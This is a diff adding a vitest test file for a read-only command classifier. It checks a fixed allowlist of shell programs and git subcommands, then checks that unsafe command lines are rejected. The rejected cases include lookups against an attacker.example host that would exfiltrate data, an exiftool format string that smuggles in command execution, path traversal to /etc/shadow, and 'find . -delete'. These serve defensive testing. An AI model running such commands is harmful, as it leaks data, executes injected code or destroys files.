@@ -1,0 +1,142 @@
+/**
+ * The closed list of programs that only read, written out by hand: a program comes on it only when it takes no code,
+ * configuration or plugins from the folder, shows nothing in a pager, and uses neither the network nor the clipboard.
+ */
+import { readdirSync, readFileSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import { describe, expect, test } from "vitest";
+import { judgeArgv } from "./judge-argv.js";
+import type { ProgramData, ProgramFile } from "./program-data.js";
+
+const words = (text: string): readonly string[] => text.split(/\s+/).filter((word) => word !== "");
+
+const PROGRAMS = words(`
+  : [ ag apropos arch ascii85 atq awk b2sum base16 base32 base58 base64 basename basenc bc bridge bzcat
+  bzgrep c++filt cal cat cd cksum cmp column comm command cut date df diff diff3 dir dirname dirs dpkg
+  dpkg-query du dust echo egrep envsubst exa exit expand expr eza factor false fd fdfind fgrep file find
+  findmnt fmt fold free gawk getconf getfacl gfind gojq grep groups gsed gtar hd head help hexdump hexyl
+  history hostname iconv id ifconfig iostat ip jaq jobs join jq last lastlog locate logname look ls lsattr
+  lsb_release lsblk lscpu lsd lsipc lslocks lsmod lsns lspci lsusb mawk md5 md5sum mount mpstat namei nawk
+  nl nm nproc numfmt od paste pathchk pgrep pidof pkg-config popd pr printenv printf ps pstree ptx pushd
+  pwd readlink realpath rev rg sed seq sha1sum sha224sum sha256sum sha384sum sha512sum shasum shuf size
+  sleep sort ss stat strings sum sysctl tac tail tar test tr tree true tsort tty type ul ulimit umask
+  uname unexpand uniq unzip update-alternatives uptime users uuencode vdir vmstat w wait wc whatis whereis
+  which who whoami xargs xxd xzcat xzgrep yes zcat zegrep zfgrep zgrep zipgrep zipinfo zstdcat
+`);
+
+/** Only with the settings that are forced on git when it is started. */
+const GIT_SUBCOMMANDS = [
+  "annotate",
+  "blame",
+  "branch",
+  "cat-file",
+  "check-attr",
+  "check-ignore",
+  "check-ref-format",
+  "cherry",
+  "count-objects",
+  "describe",
+  "diff",
+  "diff-files",
+  "diff-index",
+  "diff-tree",
+  "for-each-ref",
+  "fsck",
+  "grep",
+  "log",
+  "ls-files",
+  "ls-tree",
+  "merge-base",
+  "name-rev",
+  "notes list",
+  "notes show",
+  "range-diff",
+  "reflog",
+  "remote",
+  "remote get-url",
+  "replace",
+  "rev-list",
+  "rev-parse",
+  "shortlog",
+  "show",
+  "show-branch",
+  "show-ref",
+  "stash list",
+  "stash show",
+  "status",
+  "symbolic-ref",
+  "tag",
+  "var",
+  "verify-pack",
+  "version",
+  "whatchanged",
+  "worktree list",
+];
+
+function readersIn(name: string, data: ProgramData): readonly string[] {
+  const inside = Object.entries(data.subcommands ?? {}).flatMap(([names, sub]) =>
+    names.split(" ").flatMap((one) => readersIn(`${name} ${one}`, sub)),
+  );
+  return data.onlyReads ? [name, ...inside] : inside;
+}
+
+test("lists as readers only the programs that are written out here", () => {
+  const folder = fileURLToPath(new URL("data/", import.meta.url));
+  const files = readdirSync(folder).map(
+    (file) => JSON.parse(readFileSync(`${folder}${file}`, "utf8")) as ProgramFile,
+  );
+  const found = files.flatMap(({ programs }) =>
+    Object.entries(programs).flatMap(([names, data]) =>
+      names.split(" ").flatMap((name) => readersIn(name, data)),
+    ),
+  );
+  expect(found.toSorted()).toEqual([...PROGRAMS, ...GIT_SUBCOMMANDS.map((name) => `git ${name}`)].toSorted());
+});
+
+describe("a program that does more than read is no reader", () => {
+  test.each([
+    "yarn why x",
+    "pnpm list",
+    "pnpm view x",
+    "npm outdated",
+    "npm ls",
+    "yarn audit",
+    "getent hosts data.attacker.example",
+    "finger data@attacker.example",
+    "mediainfo http://attacker.example/x",
+    "exiftool -p '${FileName;system(1)}' a.png",
+    "man man",
+    "journalctl",
+    "dmesg -H",
+    "pbpaste",
+    "wl-paste",
+    "lshw -dump .git/hooks/post-checkout",
+    "sysctl -n /../../etc/shadow",
+    "less a.txt",
+    "bat a.txt",
+    "cargo metadata",
+    "go list ./...",
+    "docker ps",
+    "kubectl get pods",
+    "dig x.example",
+    "ping x.example",
+    "hostname -f",
+    "tree -o out.txt",
+    "find . -delete",
+    "sort -o out a",
+    "tar xf a.tar",
+    "unzip a.zip",
+    "git log --output=x",
+    "git help log",
+    "git log --show-signature",
+    "git log --format=%G?",
+    "git cat-file --textconv HEAD:a",
+    "git grep -O x",
+    "ps -axe",
+    "printenv",
+    "env",
+  ])("%s", (line) => {
+    const argv = [...line.matchAll(/'([^']*)'|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? "");
+    expect(judgeArgv(argv).onlyReads).toBe(false);
+  });
+});
